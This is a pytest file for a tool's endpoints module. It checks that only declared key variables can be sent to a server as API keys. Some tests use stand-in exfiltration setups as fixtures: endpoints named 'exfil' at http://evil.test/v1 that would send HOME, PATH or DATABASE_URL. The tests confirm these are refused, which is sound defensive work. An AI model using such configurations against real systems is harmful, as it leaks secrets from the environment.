"""Key variables must be declared for endpoints: the engine refuses any other.

Neither a page nor a flag can make a run send ``$HOME`` or ``$DATABASE_URL`` to
a server as its "key": saving a preset, resolving an endpoint and reading a key
all refuse a variable that does not end in ``_API_KEY``, ``_TOKEN`` or ``_KEY``
and is not listed under ``"key_variables"`` in the endpoints file.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from cvb_engine import endpoints
from cvb_engine.endpoints import (
    BUILTIN,
    Endpoint,
    EndpointError,
    delete_preset,
    key_is_set,
    key_variable_problem,
    load_presets,
    read_key,
    resolve,
    save_preset,
)

SECRET = "value-of-a-variable-that-is-not-a-key"


@pytest.fixture
def presets(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    path = tmp_path / "endpoints.json"
    monkeypatch.setenv("CVB_ENDPOINTS", str(path))
    return path


@pytest.mark.parametrize(
    ("name", "allowed"),
    [
        ("", True),  # no key
        ("GROQ_API_KEY", True),
        ("OPENAI_API_KEY", True),
        ("AWS_SECRET_ACCESS_KEY", True),
        ("HF_TOKEN", True),
        ("GITHUB_TOKEN", True),
        ("LAB_KEY", True),
        ("CVB_TEST_RUNNER_KEY", True),
        ("PATH", False),
        ("HOME", False),
        ("DATABASE_URL", False),
        ("CVB_DATABASE_URL", False),
        ("PGPASSWORD", False),
        ("KEY", False),
        ("_KEY", False),
        ("_TOKEN", False),
        ("groq_api_key", False),  # the suffix is upper case
        ("MY_KEY_FILE", False),
        ("API_KEY_PATH", False),
        ("sk-proj-abcdefghijklmnop", False),
        ("A B_KEY", False),
    ],
)
def test_the_suffix_rule(presets: Path, name: str, allowed: bool) -> None:
    assert (key_variable_problem(name) is None) is allowed


def test_the_message_names_the_variable_and_never_a_value(
    presets: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HOME", SECRET)
    problem = key_variable_problem("HOME") or ""
    assert "HOME is not declared" in problem and "key_variables" in problem
    assert str(presets) in problem and SECRET not in problem
    pasted = "sk-live-Abcdefghijklmnopqrstuvwx123456"
    assert pasted not in (key_variable_problem(pasted) or "")


def test_a_listed_variable_is_declared(presets: Path) -> None:
    presets.write_text(json.dumps({"key_variables": ["LAB_SECRET", "VLLM_PASS"]}))
    assert key_variable_problem("LAB_SECRET") is None
    assert key_variable_problem("VLLM_PASS") is None
    assert key_variable_problem("HOME") is not None
    assert "key_variables" not in load_presets()


@pytest.mark.parametrize("listed", ["LAB_SECRET", ["not a name"], [1], {"a": 1}])
def test_a_malformed_list_is_an_error(presets: Path, listed: object) -> None:
    presets.write_text(json.dumps({"key_variables": listed}))
    with pytest.raises(EndpointError, match="key_variables"):
        load_presets()


def test_saving_refuses_an_undeclared_variable_and_keeps_the_list(presets: Path) -> None:
    with pytest.raises(EndpointError, match="PATH is not declared"):
        save_preset(Endpoint("exfil", "http://evil.test/v1", "PATH"))
    assert not presets.exists()
    presets.write_text(json.dumps({"key_variables": ["LAB_SECRET"]}))
    save_preset(Endpoint("lab", "http://127.0.0.1:8000/v1", "LAB_SECRET"))
    save_preset(Endpoint("groq-eu", "https://eu.example/v1", "GROQ_API_KEY"))
    delete_preset("key_variables")  # never from a page
    delete_preset("groq-eu")
    data = json.loads(presets.read_text())
    assert data["key_variables"] == ["LAB_SECRET"] and set(data) == {"key_variables", "lab"}
    with pytest.raises(EndpointError, match="reserved"):
        save_preset(Endpoint("key_variables", "http://127.0.0.1:8000/v1", ""))


def test_resolving_refuses_an_undeclared_variable(
    presets: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DATABASE_URL", SECRET)
    with pytest.raises(EndpointError, match="DATABASE_URL is not declared"):
        resolve(None, "http://evil.test/v1", "DATABASE_URL")
    with pytest.raises(EndpointError, match="DATABASE_URL is not declared"):
        resolve("groq", None, "DATABASE_URL")
    # A preset written into the file by hand: loads (so the page can say why), never resolves.
    presets.write_text(
        json.dumps({"exfil": {"base_url": "http://evil.test/v1", "api_key_env": "HOME"}})
    )
    assert load_presets()["exfil"].api_key_env == "HOME"
    with pytest.raises(EndpointError, match="HOME is not declared"):
        resolve("exfil", None, None)
    assert resolve("exfil", None, "").api_key_env == ""  # overridden by an allowed one


def test_reading_refuses_an_undeclared_variable(
    presets: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HOME", SECRET)
    with pytest.raises(EndpointError, match="HOME is not declared") as caught:
        read_key("HOME")
    assert SECRET not in str(caught.value)
    assert key_is_set("HOME") is False
    monkeypatch.setenv("LAB_API_KEY", "sk-lab")
    assert read_key("LAB_API_KEY") == "sk-lab" and key_is_set("LAB_API_KEY")
    assert read_key("") == endpoints.NO_KEY_PLACEHOLDER


def test_shipped_presets_pass(presets: Path) -> None:
    for preset in BUILTIN.values():
        assert key_variable_problem(preset.api_key_env) is None, preset
        assert resolve(preset.name, None, None).name == preset.name


def test_cvb_run_refuses_an_undeclared_variable(
    presets: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from cvb_engine import cli

    argv = ["run", "--dry-run", "--base-url", "http://evil.test/v1", "--api-key-env", "HOME"]
    assert cli.main(argv) == 2
    assert "HOME is not declared as a key variable" in capsys.readouterr().err
